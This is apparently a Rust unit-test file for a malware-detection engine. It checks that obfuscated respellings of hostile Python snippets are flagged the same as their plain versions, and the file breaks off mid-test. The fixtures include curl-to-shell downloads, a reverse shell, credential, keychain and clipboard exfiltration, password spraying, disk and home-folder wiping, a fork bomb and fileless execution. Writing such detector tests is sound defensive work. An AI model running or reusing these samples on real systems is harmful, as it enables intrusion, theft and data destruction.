//! Unit tests of the engine's view through respellings (see
//! `analyze/indirect.rs` and `metamorphic_tests.rs`): one behaviour written
//! plainly and written through an indirection must get the same findings.
//! Each test also has a control: the indirection around something harmless
//! stays harmless, or a look-alike that is not the indirection is not seen
//! through.

use super::behaviour_tests::{rules, run};
use super::Verdict;

/// The rule ids of a script's findings, sorted and without repeats.
fn rule_set(src: &str) -> (Vec<String>, Verdict) {
    let a = run(src);
    let mut r: Vec<String> = rules(&a).into_iter().map(String::from).collect();
    r.sort();
    r.dedup();
    (r, a.verdict)
}

/// `respelled` gets every finding `plain` gets, and the same verdict.
fn assert_same(plain: &str, respelled: &str) {
    let (want, v) = rule_set(plain);
    let (got, w) = rule_set(respelled);
    assert!(
        v >= Verdict::High,
        "the plain spelling is not flagged: {want:?}"
    );
    let missing: Vec<&String> = want.iter().filter(|r| !got.contains(r)).collect();
    assert!(missing.is_empty(), "lost {missing:?}: {want:?} -> {got:?}");
    assert_eq!(v, w, "{want:?} -> {got:?}");
}

const PIPE_TO_SHELL: &str = r#"import subprocess
subprocess.run("curl -s http://203.0.113.9/x.sh | sh", shell=True)
"#;

/// A call through a generic pass-through helper is the call it makes.
#[test]
fn pass_through_helper_reaches_the_function() {
    let wrapped = r#"import subprocess
def _call(fn, *args, **kwargs):
    return fn(*args, **kwargs)
_call(subprocess.run, "curl -s http://203.0.113.9/x.sh | sh", shell=True)
"#;
    assert_same(PIPE_TO_SHELL, wrapped);
    // A lambda, and a helper with other names, positional splat only.
    let lambda = r#"import subprocess
invoke = lambda f, *a, **k: f(*a, **k)
invoke(subprocess.run, "curl -s http://203.0.113.9/x.sh | sh", shell=True)
"#;
    assert_same(PIPE_TO_SHELL, lambda);
}

/// Control: the helper around harmless calls stays LOW, and a helper that
/// does not pass its arguments on as they came is not seen through.
#[test]
fn pass_through_helper_controls() {
    let harmless = r#"import shutil
def _call(fn, *args, **kwargs):
    return fn(*args, **kwargs)
_call(shutil.copy, "notes.txt", "notes.bak")
print(_call(len, "abc"))
"#;
    assert_eq!(
        run(harmless).verdict,
        Verdict::Low,
        "{:?}",
        run(harmless).findings
    );
    // `fn(args[0])` calls the function with something else than what the
    // call passed: the arguments are not forwarded.
    let not_forwarding = r#"import subprocess
def first_only(fn, *args):
    return fn(args[0])
first_only(print, "curl -s http://203.0.113.9/x.sh | sh", "extra")
"#;
    let a = run(not_forwarding);
    assert!(a.verdict < Verdict::High, "{:?}", a.findings);
}

/// Module code moved into a function that declares its names `global`:
/// the other functions read the module's names as before.
#[test]
fn global_names_bound_in_a_function_are_the_module_s() {
    let plain = r#"import subprocess
CMD = "curl -s http://203.0.113.9/x.sh | sh"
def run():
    subprocess.run(CMD, shell=True)
run()
"#;
    let moved = r#"import subprocess
def run():
    subprocess.run(CMD, shell=True)
def _main():
    global CMD
    CMD = "curl -s http://203.0.113.9/x.sh | sh"
    run()
_main()
"#;
    assert_same(plain, moved);
}

/// Control: without `global`, a function's own variable is not the
/// module's, and another function does not see it.
#[test]
fn local_names_stay_local() {
    let local = r#"import subprocess
def run():
    subprocess.run(CMD, shell=True)
def setup():
    CMD = "curl -s http://203.0.113.9/x.sh | sh"
    print(CMD)
CMD = "ls -l /tmp"
run()
"#;
    let a = run(local);
    assert!(!rules(&a).contains(&"MB908"), "{:?}", a.findings);
    assert!(a.verdict < Verdict::High, "{:?}", a.findings);
}

const FETCHED_COMMAND: &str = r#"import subprocess
import urllib.request
def fetch(u):
    return urllib.request.urlopen(u).read().decode()
cmd = fetch("http://203.0.113.9/cmd")
subprocess.run(cmd, shell=True)
"#;

/// What a call through the helper returns is what the function returns:
/// a command fetched by a function of the script's own, called through it.
#[test]
fn pass_through_helper_returns_what_the_function_returns() {
    let wrapped = r#"import subprocess
import urllib.request
def _call(fn, *args, **kwargs):
    return fn(*args, **kwargs)
def fetch(u):
    return urllib.request.urlopen(u).read().decode()
cmd = _call(fetch, "http://203.0.113.9/cmd")
_call(subprocess.run, cmd, shell=True)
"#;
    assert_same(FETCHED_COMMAND, wrapped);
    // Control: the helper returning a constant of the script's own.
    let constant = r#"import subprocess
def _call(fn, *args, **kwargs):
    return fn(*args, **kwargs)
def version():
    return "git --version"
subprocess.run(_call(version), shell=True)
"#;
    let a = run(constant);
    assert!(a.verdict < Verdict::High, "{:?}", a.findings);
}

/// A loop that sends until a deadline read from the clock under another
/// name (`now = time.time`, `getattr(time, "time")`) is the same flood.
#[test]
fn clock_under_another_name_bounds_the_flood() {
    let plain = r#"import socket
import time
def flood(target, seconds):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    end = time.time() + seconds
    while time.time() < end:
        s.sendto(b"x" * 1024, (target, 80))
flood("203.0.113.5", 60)
"#;
    let aliased = plain
        .replace("import time\n", "import time\nnow = time.time\n")
        .replace("time.time()", "now()");
    assert_same(plain, &aliased);
    let by_getattr = plain.replace("time.time()", "getattr(time, 'time')()");
    assert_same(plain, &by_getattr);
    // Control: the same loop waiting a second between sends.
    let paced = aliased.replace("(target, 80))\n", "(target, 80))\n        time.sleep(1)\n");
    let a = run(&paced);
    assert!(!rules(&a).contains(&"MB927"), "{:?}", a.findings);
}

const STREAM_SHELL: &str = r#"import asyncio
import subprocess
async def handle(reader, writer):
    line = await reader.readline()
    writer.write(subprocess.getoutput(line.decode()).encode())
async def main():
    server = await asyncio.start_server(handle, "0.0.0.0", 4444)
    await server.serve_forever()
asyncio.run(main())
"#;

/// A stream server started under another name still hands each
/// connection's data to its callback.
#[test]
fn stream_server_under_another_name() {
    let aliased = STREAM_SHELL
        .replace(
            "import subprocess\n",
            "import subprocess\nlisten = asyncio.start_server\n",
        )
        .replace("asyncio.start_server(", "listen(");
    assert_same(STREAM_SHELL, &aliased);
    // Control: an echo server under the alias runs nothing.
    let echo = aliased.replace("subprocess.getoutput(line.decode()).encode()", "line");
    let a = run(&echo);
    assert!(a.verdict < Verdict::Blocked, "{:?}", a.findings);
}

/// `asyncio.to_thread` under another name returns what the function it
/// runs returns.
#[test]
fn to_thread_under_another_name() {
    let plain = r#"import asyncio
import subprocess
import urllib.request
def fetch(u):
    return urllib.request.urlopen(u).read().decode()
async def agent():
    cmd = await asyncio.to_thread(fetch, "http://203.0.113.9/cmd")
    subprocess.run(cmd, shell=True)
asyncio.run(agent())
"#;
    let aliased = plain
        .replace(
            "import urllib.request\n",
            "import urllib.request\nin_thread = asyncio.to_thread\n",
        )
        .replace("asyncio.to_thread(", "in_thread(");
    assert_same(plain, &aliased);
    // Control: the thread returns a constant.
    let constant = aliased.replace(
        "return urllib.request.urlopen(u).read().decode()",
        "return 'uptime'",
    );
    let a = run(&constant);
    assert!(a.verdict < Verdict::Blocked, "{:?}", a.findings);
}

const PASSWORD_DIALOG: &str = r#"import json
import subprocess
import urllib.request
DIALOG = 'display dialog "Update needs your password" default answer "" with hidden answer'
def ask():
    return subprocess.run(["osascript", "-e", DIALOG], capture_output=True, text=True).stdout
pw = ask()
req = urllib.request.Request("https://203.0.113.9/c", data=json.dumps({"pw": pw}).encode())
urllib.request.urlopen(req)
"#;

/// A program's name kept in a constant (`OSA = "osascript"`) is still
/// found by the checks that look for it in the call's text.
#[test]
fn program_name_in_a_constant() {
    let hoisted = PASSWORD_DIALOG
        .replace("DIALOG = ", "OSA = 'osascript'\nDIALOG = ")
        .replace("[\"osascript\",", "[OSA,");
    assert_same(PASSWORD_DIALOG, &hoisted);
    // Control: a dialog that asks for no password (no hidden answer).
    let plain_dialog = hoisted.replace(" with hidden answer", "");
    let a = run(&plain_dialog);
    assert!(!rules(&a).contains(&"MB916"), "{:?}", a.findings);
}

const SPRAY: &str = r#"import requests
PASSWORDS = ["Spring2024!", "Summer2024!", "Welcome1!"]
def spray(user):
    for pw in PASSWORDS:
        r = requests.post("https://sso.example.org/oauth2/token", data={"username": user, "password": pw})
        if r.status_code == 200:
            return pw
spray("alice@example.org")
"#;

/// A form's field names kept in constants (`PW_FIELD = "password"`) are
/// still read as the field names.
#[test]
fn form_field_name_in_a_constant() {
    let hoisted = SPRAY
        .replace("PASSWORDS = ", "PW_FIELD = 'password'\nPASSWORDS = ")
        .replace("\"password\": pw", "PW_FIELD: pw");
    assert_same(SPRAY, &hoisted);
    // Control: the constant names another field (a search form's query).
    let other = hoisted.replace("PW_FIELD = 'password'", "PW_FIELD = 'query'");
    let a = run(&other);
    assert!(!rules(&a).contains(&"MB925"), "{:?}", a.findings);
}

const HEARTBEAT: &str = r#"import socket
import time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
while True:
    s.sendto(b"alive", ("127.0.0.1", 8125))
    time.sleep(5)
"#;

/// A loop that waits under another name (`pause = time.sleep`) is still a
/// loop that waits: a heartbeat, not a flood.
#[test]
fn waiting_under_another_name() {
    let (plain, v) = rule_set(HEARTBEAT);
    let aliased = HEARTBEAT
        .replace("import time\n", "import time\npause = time.sleep\n")
        .replace("time.sleep(5)", "pause(5)");
    let (got, w) = rule_set(&aliased);
    assert_eq!((plain, v), (got, w));
    assert!(w < Verdict::High);
    // Control: an alias of a call that does not wait leaves the flood.
    let busy = HEARTBEAT
        .replace("import time\n", "import time\nstamp = time.time\n")
        .replace("time.sleep(5)", "stamp()");
    assert!(rules(&run(&busy)).contains(&"MB927"));
}

const CLIPBOARD_RELAY: &str = r#"import time
import requests
import win32clipboard
while True:
    win32clipboard.OpenClipboard()
    text = win32clipboard.GetClipboardData(win32clipboard.CF_UNICODETEXT)
    win32clipboard.CloseClipboard()
    requests.post("https://203.0.113.7/c", json={"t": text}, timeout=5)
    time.sleep(2)
"#;

/// A module function called under an alias or through `getattr` is read
/// as its plain spelling (`module.function(...)`) by the checks that look
/// at the function's name.
#[test]
fn function_name_under_another_name() {
    let aliased = CLIPBOARD_RELAY
        .replace(
            "import win32clipboard\n",
            "import win32clipboard\ngrab = win32clipboard.GetClipboardData\n",
        )
        .replace("win32clipboard.GetClipboardData(", "grab(");
    assert_same(CLIPBOARD_RELAY, &aliased);
    let by_getattr = CLIPBOARD_RELAY.replace(
        "win32clipboard.GetClipboardData(",
        "getattr(win32clipboard, 'GetClipboardData')(",
    );
    assert_same(CLIPBOARD_RELAY, &by_getattr);
    // Control: the clipboard written, not read, under an alias.
    let writes = CLIPBOARD_RELAY
        .replace(
            "import win32clipboard\n",
            "import win32clipboard\nput = win32clipboard.SetClipboardText\n",
        )
        .replace(
            "text = win32clipboard.GetClipboardData(win32clipboard.CF_UNICODETEXT)",
            "put('hello')\n    text = 'x'",
        );
    let a = run(&writes);
    assert!(!rules(&a).contains(&"MB216"), "{:?}", a.findings);
}

const HELPER: &str = "def _call(fn, *args, **kwargs):\n    return fn(*args, **kwargs)\n";

/// Through the helper, the environment read is the same: one variable
/// read (the webhook's address, a benign notifier's) is not the whole
/// environment, and the whole environment sent still is.
#[test]
fn environment_through_the_helper() {
    let notifier = format!(
        "import os\nimport requests\n{HELPER}hook = _call(os.environ.get, 'SLACK_HOOK')\n\
         _call(requests.post, hook, json={{'text': 'build passed'}}, timeout=10)\n"
    );
    let a = run(&notifier);
    assert!(a.verdict < Verdict::High, "{:?}", a.findings);
    let plain = "import json\nimport os\nimport urllib.request\n\
                 payload = json.dumps(os.environ.copy()).encode()\n\
                 urllib.request.urlopen('http://198.51.100.4/e', data=payload)\n";
    let wrapped = format!(
        "import json\nimport os\nimport urllib.request\n{HELPER}\
         payload = _call(json.dumps, _call(os.environ.copy)).encode()\n\
         _call(urllib.request.urlopen, 'http://198.51.100.4/e', data=payload)\n"
    );
    assert_same(plain, &wrapped);
}

/// Code decoded through the helper and run is obfuscated code run.
#[test]
fn decoder_through_the_helper() {
    let blob = "eJzLSM3JyVcozy/KSQEAGgQEXQ==";
    let plain = format!(
        "import base64\nimport zlib\nsrc = zlib.decompress(base64.b64decode('{blob}'))\n\
         exec(compile(src, '<x>', 'exec'))\n"
    );
    let wrapped = format!(
        "import base64\nimport zlib\n{HELPER}\
         src = _call(zlib.decompress, _call(base64.b64decode, '{blob}'))\n\
         _call(exec, _call(compile, src, '<x>', 'exec'))\n"
    );
    assert_same(&plain, &wrapped);
    // Control: data decoded through the helper and printed, not run.
    let shown = wrapped.replace(
        "_call(exec, _call(compile, src, '<x>', 'exec'))",
        "print(src)",
    );
    let a = run(&shown);
    assert!(a.verdict < Verdict::High, "{:?}", a.findings);
}

const TOUCHED_BACK: &str = r#"import os
def tidy(path):
    st = os.stat(path)
    with open(path, "w") as f:
        f.write("")
    os.utime(path, ns=(st.st_atime_ns, st.st_mtime_ns))
tidy(os.path.expanduser("~/notes/log.txt"))
"#;

/// A file mode kept in a constant (`WRITE = "w"`) still opens the file
/// for writing.
#[test]
fn file_mode_in_a_constant() {
    let hoisted = TOUCHED_BACK
        .replace("import os\n", "import os\nWRITE = 'w'\n")
        .replace("open(path, \"w\")", "open(path, WRITE)");
    assert_same(TOUCHED_BACK, &hoisted);
    // Control: the constant opens the file for reading.
    let reads = hoisted
        .replace("WRITE = 'w'", "WRITE = 'r'")
        .replace("f.write(\"\")", "f.read()");
    let a = run(&reads);
    assert!(!rules(&a).contains(&"MB933"), "{:?}", a.findings);
}

const TABLED: &str = r#"import subprocess
def run(argv):
    return subprocess.run(argv).returncode
STEPS = {"clear": lambda ch: ["wevtutil", "cl", ch]}
for ch in ["Security", "System"]:
    run(STEPS["clear"](ch))
"#;

/// A command's words kept in constants (`[WEVTUTIL, "cl", ch]`) in a
/// table of commands are read like the literal words.
#[test]
fn tabled_command_words_in_constants() {
    let hoisted = TABLED
        .replace("STEPS = ", "WEVTUTIL = 'wevtutil'\nCL = 'cl'\nSTEPS = ")
        .replace("[\"wevtutil\", \"cl\", ch]", "[WEVTUTIL, CL, ch]");
    assert_same(TABLED, &hoisted);
    // Control: the constants name a harmless listing.
    let listing = hoisted.replace("WEVTUTIL = 'wevtutil'", "WEVTUTIL = 'ls'");
    let a = run(&listing);
    assert!(!rules(&a).contains(&"MB923"), "{:?}", a.findings);
}

const SUDO_GUESS: &str = r#"import subprocess
for pw in open("/usr/share/wordlists/rockyou.txt"):
    r = subprocess.run(["sudo", "-S", "-k", "true"], input=pw, capture_output=True, text=True)
    if r.returncode == 0:
        print("found", pw)
        break
"#;

/// sudo's words kept in constants still read as sudo asked for a password
/// on its standard input.
#[test]
fn sudo_words_in_constants() {
    let hoisted = SUDO_GUESS
        .replace(
            "import subprocess\n",
            "import subprocess\nSUDO = 'sudo'\nSTDIN = '-S'\n",
        )
        .replace("[\"sudo\", \"-S\",", "[SUDO, STDIN,");
    assert_same(SUDO_GUESS, &hoisted);
    // Control: the constants run another program, which asks nothing.
    let other = hoisted.replace("SUDO = 'sudo'", "SUDO = 'grep'");
    let a = run(&other);
    assert!(!rules(&a).contains(&"MB925"), "{:?}", a.findings);
}

const MAILBOX_FORWARD: &str = r#"import imaplib
import smtplib
from email.message import EmailMessage
box = imaplib.IMAP4_SSL("imap.example.org")
box.login("alice@example.org", "hunter2")
box.select("INBOX")
_, ids = box.search(None, "ALL")
s = smtplib.SMTP("smtp.203.0.113.9.example", 587)
for num in ids[0].split():
    _, data = box.fetch(num, "(RFC822)")
    msg = EmailMessage()
    msg["To"] = "drop@203.0.113.9.example"
    msg.set_content(data[0][1].decode(errors="replace"))
    s.send_message(msg)
"#;

/// The message part a mailbox fetch asks for, kept in a constant, still
/// fetches whole messages.
#[test]
fn mail_fetch_part_in_a_constant() {
    let hoisted = MAILBOX_FORWARD
        .replace(
            "from email.message",
            "WHOLE = '(RFC822)'\nfrom email.message",
        )
        .replace("box.fetch(num, \"(RFC822)\")", "box.fetch(num, WHOLE)");
    assert_same(MAILBOX_FORWARD, &hoisted);
    // Control: only the headers' subject fetched.
    let headers = hoisted.replace("'(RFC822)'", "'(BODY[HEADER.FIELDS (SUBJECT)])'");
    let a = run(&headers);
    assert!(!rules(&a).contains(&"MB950"), "{:?}", a.findings);
}

const SHADOW_SENT: &str = r#"import socket
def helper():
    return "mkdir -p /node/root/.ssh && chroot /node sh -c 'cat /etc/shadow' > /node/tmp/o"
s = socket.create_connection(("203.0.113.5", 80))
s.send(helper().encode())
"#;

/// An f-string names a file as plainly as the literal does: its text,
/// placeholders as written, is read like a literal's.
#[test]
fn fstring_text_is_read_like_a_literal() {
    let templated = r#"import socket
KEY = "x"
def helper():
    return f"echo '{KEY}' && chroot /node sh -c 'cat /etc/shadow' > /node/tmp/o"
s = socket.create_connection(("203.0.113.5", 80))
s.send(helper().encode())
"#;
    assert_same(SHADOW_SENT, templated);
    // Control: an f-string naming nothing sensitive stays unflagged.
    let harmless = r#"import socket
KEY = "x"
s = socket.create_connection(("203.0.113.5", 80))
s.send(f"hello {KEY} from the report".encode())
"#;
    assert!(run(harmless).verdict < Verdict::High);
}

const WIPE_HOME: &str = r#"import shutil
shutil.rmtree("/home", ignore_errors=True)
"#;

/// A table looked up by a key nothing in the script tells
/// (`platform.system()`) may give any of its entries; a reversed string
/// passed to a helper is its reversed value.
#[test]
fn table_entry_by_unknown_key_and_reversed_argument() {
    let by_platform = r#"import shutil, platform
ROOTS = {"Linux": "/home", "Darwin": "/Users"}
def wipe(root):
    shutil.rmtree(root, ignore_errors=True)
wipe(ROOTS[platform.system()])
"#;
    let by_get = r#"import shutil, platform
ROOTS = {"Linux": "emoh/", "Darwin": "sresU/"}
def wipe(root):
    shutil.rmtree(root, ignore_errors=True)
wipe(ROOTS.get(platform.system(), "")[::-1])
"#;
    let reversed = r#"import shutil
def wipe(root):
    shutil.rmtree(root, ignore_errors=True)
wipe("emoh/"[::-1])
"#;
    for respelled in [by_platform, by_get, reversed] {
        assert_same(WIPE_HOME, respelled);
    }
    // Control: a table of the program's own cache directories, looked up
    // the same way, names nothing the rule protects.
    let own_caches = r#"import shutil, platform
CACHES = {"Linux": "/tmp/myapp-cache", "Darwin": "/tmp/myapp-cache-mac"}
shutil.rmtree(CACHES.get(platform.system(), "/tmp/myapp"), ignore_errors=True)
"#;
    assert!(run(own_caches).verdict < Verdict::High);
}

/// A key that is a helper's parameter is what each call passes, not any
/// entry: `_b("ep")` is the pool address, and the command it builds still
/// names the miner.
#[test]
fn parameter_key_is_what_the_call_passes() {
    let miner = r#"import base64, subprocess
CFG = {
    "src": "aHR0cDovLzE5OC41MS4xMDAuNzcvdXBkYXRlL2FnZW50LmJpbg==",
    "ep": "c3RyYXR1bSt0Y3A6Ly9wb29sLmV4YW1wbGUubmV0OjMzMzM=",
}
def _b(k):
    return base64.b64decode(CFG[k]).decode()
def launch(binary, n):
    args = ["kworker", "-o", _b("ep"), "--threads", str(n)]
    return subprocess.Popen(args, executable=binary)
launch("/tmp/x", 3)
"#;
    assert!(rules(&run(miner)).contains(&"MB905"));
}

/// An ioctl request named through `getattr` with a built name is the
/// request it resolves to.
#[test]
fn ioctl_request_through_getattr() {
    let plain = r#"import fcntl, termios
fd = open("/dev/tty")
for ch in "id\n":
    fcntl.ioctl(fd, termios.TIOCSTI, ch.encode())
"#;
    let respelled = r#"import fcntl, termios
fd = open("/dev/tty")
op = getattr(termios, "TIOC" + "STI")
for ch in "id\n":
    fcntl.ioctl(fd, op, ch.encode())
"#;
    assert_same(plain, respelled);
    // Control: another terminal request, spelled the same way.
    let winsize = r#"import fcntl, termios
fd = open("/dev/tty")
op = getattr(termios, "TIOC" + "GWINSZ")
print(fcntl.ioctl(fd, op, b"\0" * 8))
"#;
    assert!(!rules(&run(winsize)).contains(&"MB919"));
}

/// A wait in the `except` of a fork loop runs only when fork fails: the
/// loop is still a bomb. A wait in the loop's own body is a worker pool.
#[test]
fn fork_loop_waiting_only_on_failure() {
    let plain = r#"import os
while True:
    os.fork()
"#;
    let respelled = r#"import os, time
spawn = getattr(os, "fo" + "rk")
while True:
    try:
        spawn()
    except OSError:
        time.sleep(0.01)
"#;
    assert_same(plain, respelled);
    let throttled = r#"import os, time
while True:
    pid = os.fork()
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)
    time.sleep(1)
"#;
    assert!(!rules(&run(throttled)).contains(&"MB902"));
}

/// Commands kept hex-encoded and decoded in a loop are the commands.
#[test]
fn hex_encoded_commands_decoded_in_a_loop() {
    let plain = r#"import subprocess
subprocess.run("vssadmin delete shadows /all /quiet", shell=True)
"#;
    let hexed = r#"import subprocess
STEPS = ("76737361646d696e2064656c65746520736861646f7773202f616c6c202f7175696574",)
for enc in STEPS:
    cmd = bytes.fromhex(enc).decode()
    subprocess.run(cmd, shell=True)
"#;
    assert_same(plain, hexed);
    // Control: `echo hello`, hex-encoded the same way.
    let echo = r#"import subprocess
for enc in ("6563686f2068656c6c6f",):
    subprocess.run(bytes.fromhex(enc).decode(), shell=True)
"#;
    assert!(run(echo).verdict < Verdict::High);
}

/// A command run through a helper that takes its argument list (`def
/// _run(args): subprocess.run(args)`) is each list a caller passes: a
/// keychain dump sent away is the same whether run directly or so.
#[test]
fn command_run_through_a_helper_parameter() {
    let plain = r#"import subprocess, urllib.request
res = subprocess.run(["security", "dump-keychain", "-d"], capture_output=True, text=True)
urllib.request.urlopen("https://203.0.113.7/r", data=res.stdout.encode())
"#;
    let helper = r#"import subprocess, urllib.request
def _run(args, **kw):
    return subprocess.run(args, capture_output=True, text=True, **kw)
def dump():
    return _run(["security", "dump-keychain", "-d"]).stdout
urllib.request.urlopen("https://203.0.113.7/r", data=dump().encode())
"#;
    assert_same(plain, helper);
    assert_eq!(run(helper).verdict, Verdict::Blocked);
    // Control: the same helper asked for the program's own token by name.
    let own = r#"import subprocess
def _run(args, **kw):
    return subprocess.run(args, capture_output=True, text=True, **kw)
print(_run(["security", "find-generic-password", "-s", "myapp", "-w"]).stdout)
"#;
    assert!(run(own).verdict < Verdict::High);
}

/// `create_subprocess_exec(*cmd)` in `async def run(*cmd)` runs the words
/// each caller gives the helper.
#[test]
fn async_helper_spreading_its_arguments() {
    let plain = r#"import asyncio
async def main():
    proc = await asyncio.create_subprocess_exec("xattr", "-dr", "com.apple.quarantine", "/Applications/X.app")
    await proc.wait()
asyncio.run(main())
"#;
    let helper = r#"import asyncio
async def run(*cmd):
    proc = await asyncio.create_subprocess_exec(*cmd)
    return await proc.wait()
async def main():
    await run("xattr", "-dr", "com.apple." + "quarantine", "/Applications/X.app")
asyncio.run(main())
"#;
    assert_same(plain, helper);
    // Control: the same helper listing the attributes.
    let listing = r#"import asyncio
async def run(*cmd):
    proc = await asyncio.create_subprocess_exec(*cmd)
    return await proc.wait()
asyncio.run(run("xattr", "-l", "/Applications/X.app"))
"#;
    assert!(run(listing).verdict < Verdict::High);
}

/// A URL written as an f-string whose head names the host (`f"{PORTAL}/
/// {report_id}"`) goes to that host, however the rest is filled.
#[test]
fn upload_url_with_a_templated_tail() {
    let plain = r#"import io, zipfile, urllib.request
from pathlib import Path
buf = io.BytesIO()
with zipfile.ZipFile(buf, "w") as z:
    for f in (Path.home() / "Documents").rglob("*"):
        if f.suffix in (".docx", ".pdf"):
            z.write(f)
U = "https://" + "upload.example" + ".com/c"
urllib.request.urlopen(urllib.request.Request(U, data=buf.getvalue(), method="PUT"))
"#;
    let templated = plain.replace(
        "Request(U, data",
        "Request(f\"{U}/{len(buf.getvalue())}\", data",
    );
    assert_same(plain, &templated);
    // Control: the same archive sent where the user says (a backup to a
    // server given on the command line): the head names no host.
    let chosen = plain.replace("Request(U, data", "Request(f\"{sys.argv[1]}/1\", data");
    let chosen = format!("import sys\n{chosen}");
    assert!(!rules(&run(&chosen)).contains(&"MB958"));
}

/// A method called on an instance kept in an attribute (`self.engine =
/// Engine()` then `self.engine.evaluate(x)`) is that class's method, as it
/// is on an instance kept in a name.
#[test]
fn method_of_an_instance_kept_in_an_attribute() {
    let plain = r#"import urllib.request
class Engine:
    def evaluate(self, rule):
        return eval(rule)
e = Engine()
e.evaluate(urllib.request.urlopen("https://flags.example.test/r").read().decode())
"#;
    let kept = r#"import urllib.request
class Engine:
    def evaluate(self, rule):
        return eval(rule)
class Client:
    def __init__(self):
        self.engine = Engine()
    def run(self):
        data = urllib.request.urlopen("https://flags.example.test/r").read().decode()
        return self.engine.evaluate(data)
Client().run()
"#;
    assert_same(plain, kept);
    // Control: the kept engine evaluates the script's own constant.
    let own = kept.replace(
        "urllib.request.urlopen(\"https://flags.example.test/r\").read().decode()",
        "\"1 + 1\"",
    );
    assert!(!rules(&run(&own)).contains(&"MB914"));
}

/// Decompressed data run through a class (`M(src).install()`, the code kept
/// in `self.source`) is decoded data run, as it is run directly; compiled
/// only and handed back (an importer's code object), it is not.
#[test]
fn decoded_code_run_through_an_instance() {
    let plain = r#"import zlib
data = open("logo.png", "rb").read()
src = zlib.decompress(bytes(b ^ 7 for b in data[10:])).decode()
exec(compile(src, "<x>", "exec"), {})
"#;
    let through = r#"import zlib
class M:
    def __init__(self, source):
        self.source = source
    def install(self, ns):
        exec(compile(self.source, "<x>", "exec"), ns)
data = open("logo.png", "rb").read()
M(zlib.decompress(bytes(b ^ 7 for b in data[10:])).decode()).install({})
"#;
    assert_same(plain, through);
    let importer = r#"import zlib
def _compile(path, source):
    return compile(source, path, "exec", dont_inherit=True)
def get_code(path):
    return _compile(path, zlib.decompress(open(path, "rb").read()[30:], -15))
"#;
    assert!(!rules(&run(importer)).contains(&"MB903"));
}

/// Folder names kept as lists of character codes in a table, decoded by a
/// helper inside the loop that goes over the table, are the folders; a
/// walk kept by hand (`stack.pop()`) covers the tree under its root.
#[test]
fn code_lists_decoded_in_a_loop_and_a_hand_kept_walk() {
    let plain = r#"import os, shutil
home = os.path.expanduser("~")
for name in ["Documents", "Pictures"]:
    shutil.rmtree(os.path.join(home, name))
"#;
    let coded = r#"import os, shutil
_ROOTS = [[68, 111, 99, 117, 109, 101, 110, 116, 115], [80, 105, 99, 116, 117, 114, 101, 115]]
def _s(codes):
    return "".join(map(chr, codes))
home = os.path.expanduser("~")
for codes in _ROOTS:
    shutil.rmtree(os.path.join(home, _s(codes)))
"#;
    assert_same(plain, coded);
    let walked = r#"import os
def _walk(top):
    stack = [top]
    while stack:
        d = stack.pop()
        with os.scandir(d) as it:
            for e in it:
                if e.is_dir(follow_symlinks=False):
                    stack.append(e.path)
                else:
                    yield e.path
for p in _walk(os.path.join(os.path.expanduser("~"), "Documents")):
    os.remove(p)
"#;
    assert_eq!(run(walked).verdict, Verdict::Blocked);
    // Controls: the same helper naming a cache folder, the same walk over
    // the Downloads folder (tidying tools clear it).
    let cache = coded.replace(
        "[80, 105, 99, 116, 117, 114, 101, 115]",
        "[46, 99, 97, 99, 104, 101]",
    );
    let cache = cache.replace("[68, 111, 99, 117, 109, 101, 110, 116, 115], ", "");
    assert!(
        run(&cache).verdict < Verdict::High,
        "{:?}",
        rules(&run(&cache))
    );
    let downloads = walked.replace("\"Documents\"", "\"Downloads\"");
    assert!(run(&downloads).verdict < Verdict::High);
}

/// Text hidden by XOR with a one-byte key is the text: a device decoded
/// that way and written to is the disk overwritten.
#[test]
fn text_hidden_by_xor() {
    let plain = r#"import os
fd = os.open("/dev/sda", os.O_WRONLY)
os.write(fd, b"\x00" * 512)
"#;
    // "/dev/sda" XOR 0x5A, in hex, decoded by a helper in a loop and inline.
    let xored = r#"import os
def _x(h):
    return bytes(b ^ 0x5A for b in bytes.fromhex(h)).decode()
for h in ["753e3f2c75293e3b"]:
    fd = os.open(_x(h), os.O_WRONLY)
    os.write(fd, b"\x00" * 512)
"#;
    assert_same(plain, xored);
    let inline = r#"import os
dev = bytes([b ^ 0x5A for b in b"u>?,u)>;"]).decode()
fd = os.open(dev, os.O_WRONLY)
os.write(fd, b"\x00" * 512)
"#;
    assert_same(plain, inline);
    // Control: the same decoder naming a log file of the script's own.
    let own = xored.replace("753e3f2c75293e3b", "36353d753e3b2e3b");
    assert!(run(&own).verdict < Verdict::High, "{:?}", rules(&run(&own)));
}

/// A call through `functools.partial` is a call of the function it wraps,
/// and a PowerShell script passed base64-encoded is judged like one
/// written out.
#[test]
fn partial_and_encoded_powershell() {
    let plain = r#"import subprocess
subprocess.run(["fsutil", "usn", "deletejournal", "/D", "C:"])
"#;
    let partial = r#"import functools, subprocess
_quiet = functools.partial(subprocess.run, capture_output=True, text=True)
_quiet(["fsutil", "usn", "deletejournal", "/D", "C:"])
"#;
    assert_same(plain, partial);
    let shown = r#"import subprocess
subprocess.run(["powershell", "-Command", "Set-MpPreference -DisableRealtimeMonitoring $true"])
"#;
    // The same line as UTF-16LE under base64, with the switch abbreviated.
    let script = "Set-MpPreference -DisableRealtimeMonitoring $true";
    let utf16: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let encoded = format!(
        "import subprocess\nsubprocess.run([\"powershell\", \"-NoP\", \"-enc\", \"{}\"])\n",
        b64(&utf16)
    );
    assert_same(shown, &encoded);
    // Controls: a partial of a harmless function; an encoded status query.
    let harmless = partial.replace("subprocess.run", "print");
    assert!(run(&harmless).verdict < Verdict::High);
    let status: Vec<u8> = "Get-MpComputerStatus"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    let query = encoded.replace(&b64(&utf16), &b64(&status));
    assert!(
        run(&query).verdict < Verdict::High,
        "{:?}",
        rules(&run(&query))
    );
}

/// A fileless start: a program written into an anonymous memory file and
/// run from its descriptor (MB973), also when the memfd call is found by a
/// reversed name. Controls: the memory file used as a buffer, and a
/// program run from /proc/self/fd without any memory file.
#[test]
fn program_run_from_memory() {
    let plain = r#"import os
fd = os.memfd_create("x", 0)
os.write(fd, open("blob.bin", "rb").read())
os.execv(f"/proc/self/fd/{fd}", ["x"])
"#;
    assert!(rules(&run(plain)).contains(&"MB973"));
    let hidden = r#"import os
make = getattr(os, "etaerc_dfmem"[::-1], None)
fd = make("jit", 0)
os.write(fd, open("blob.bin", "rb").read())
if os.fork() == 0:
    path = "/proc/self/fd/%d" % fd
